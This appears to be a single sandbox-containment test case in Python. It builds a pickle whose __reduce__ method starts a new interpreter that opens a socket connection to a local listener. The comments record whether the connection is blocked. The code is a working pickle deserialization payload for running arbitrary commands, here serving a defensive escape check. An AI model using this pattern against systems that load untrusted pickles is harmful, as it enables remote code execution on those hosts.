# Tries: have a pickle start a program that connects to the host.
# Contained: the listener gets no connection.
# Alone: escapes
import pickle
import subprocess
import sys

class Attack:
    def __reduce__(self):
        return subprocess.call, ([sys.executable, "-I", "-c", f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)"],)

pickle.loads(pickle.dumps(Attack()))
